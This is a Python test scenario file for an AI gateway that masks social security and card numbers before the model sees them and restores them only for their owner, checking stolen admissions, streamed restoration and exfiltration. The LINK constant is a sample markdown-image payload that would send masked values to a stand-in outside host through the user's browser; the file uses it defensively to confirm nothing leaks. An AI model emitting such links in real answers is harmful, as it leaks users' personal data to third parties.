"""What comes back from the model: restored for its owner, whole or in pieces, and never into somebody else's link."""

from __future__ import annotations

import re

from hauberk.gateway.v1 import gateway_service_pb2 as pb
from hauberk.ratelimit.v1 import ratelimit_service_pb2 as limits_pb

from cli.asking import Gateway
from cli.demo.scenario import Report, World
from cli.words import outcome_name

SSN, CARD = "123-45-6789", "4532-1234-5678-9010"
QUESTION = f"My SSN is {SSN} and credit card is {CARD}. Are they on file?"
ANSWER = "Yes: <US_SSN> and <CREDIT_CARD> are on file."
RESTORED = f"Yes: {SSN} and {CARD} are on file."
# Longer than one block of the stream, with placeholders at both ends.
LONG = " ".join([ANSWER, *(f"Line {number} says nothing of you." for number in range(1, 40)), ANSWER])
CUT = 5  # characters: no placeholder fits into one piece
LINK = "![chart](https://elsewhere.example/?q=<US_SSN>&c=<CREDIT_CARD>)"
_PART = re.compile(r"<[A-Z_0-9]*\Z|\A[A-Z_0-9]*>")


async def owner_only(world: World) -> Report:
    """The same admission is worth nothing to another workload, the same placeholder nothing to another user."""
    report = Report()
    await world.acme.add(["olga", "paul"])
    admitted = await world.ask(world.user("olga"), QUESTION, conversation="olga-1")
    report.expect("olga's question", "ALLOW", outcome_name(admitted.outcome))
    thief = Gateway(world.stack.channel("gateway", "backend/other"))
    stolen = await thief.complete(admitted.admission, ANSWER)
    own = await world.gateway.complete(admitted.admission, ANSWER)
    again = await world.gateway.complete(admitted.admission, ANSWER)
    other = await world.ask(world.user("paul"), "What is her card?", conversation="paul-1")
    guessed = await world.gateway.complete(other.admission, ANSWER)
    report.answers += [
        ("olga's backend passes back: " + ANSWER, own),
        ("another workload, with olga's admission", stolen),
        ("paul, of the same organisation, in a conversation of his own", guessed),
    ]
    report.expect_outcome(own, "ALLOW")
    report.expect("olga sees", RESTORED, own.text)
    report.expect("the reservation is settled", "SETTLEMENT_APPLIED", limits_pb.Settlement.Name(own.settlement))
    report.expect("a second time it is not charged", "SETTLEMENT_ALREADY", limits_pb.Settlement.Name(again.settlement))
    report.expect_outcome(stolen, "DENY ADMISSION_NOT_ACCEPTED by admission")
    report.expect("the other workload sees", "", stolen.text)
    report.expect("paul sees", ANSWER, guessed.text)
    return report


async def streamed(world: World) -> Report:
    """Pieces of five characters go in; what comes out is whole."""
    report = Report()
    await world.acme.add(["sven"])
    admitted = await world.ask(world.user("sven"), QUESTION, conversation="sven-1")
    pieces = [LONG[at : at + CUT] for at in range(0, len(LONG), CUT)]
    came, result = await _through(world, admitted.admission, pieces)
    expected = LONG.replace("<US_SSN>", SSN).replace("<CREDIT_CARD>", CARD)
    report.answers.append((f"an answer of {len(LONG)} characters, in {len(pieces)} pieces", result))
    report.notes.append(f"it came out in {len(came)} pieces")
    report.expect_outcome(result, "ALLOW")
    report.expect("every value is back, and nothing else changed", expected, "".join(came))
    report.expect("pieces that end or begin within a placeholder", 0, sum(bool(_PART.search(one)) for one in came))
    report.expect("it comes before it is complete", True, len(came) > 1)
    report.expect("the reservation is settled", "SETTLEMENT_APPLIED", limits_pb.Settlement.Name(result.settlement))
    return report


async def exfiltrating(world: World) -> Report:
    """An image whose address carries the number would be fetched by the user's own browser."""
    report = Report()
    await world.acme.add(["emma"])
    whole = await world.ask(world.user("emma"), QUESTION, conversation="emma-1")
    answer = await world.gateway.complete(whole.admission, LINK)
    pieces = await world.ask(world.user("emma"), QUESTION, conversation="emma-1")
    came, result = await _through(world, pieces.admission, [LINK[at : at + CUT] for at in range(0, len(LINK), CUT)])
    report.answers += [("the model answers: " + LINK, answer), ("the same as a stream", result)]
    for label, text in (("at once", answer.text), ("as a stream", "".join(came))):
        report.expect(f"{label}: a number leaves", False, SSN in text or CARD in text)
    report.expect("values filled in", 0, answer.restored)
    return report


async def _through(world: World, admission: str, pieces: list[str]) -> tuple[list[str], pb.CompleteResponse]:
    """The pieces that came, and the decision."""
    came, result = [], pb.CompleteResponse()
    async for answer in world.gateway.complete_stream(admission, pieces):
        if answer.HasField("result"):
            result = answer.result
        else:
            came.append(answer.chunk)
    return came, result
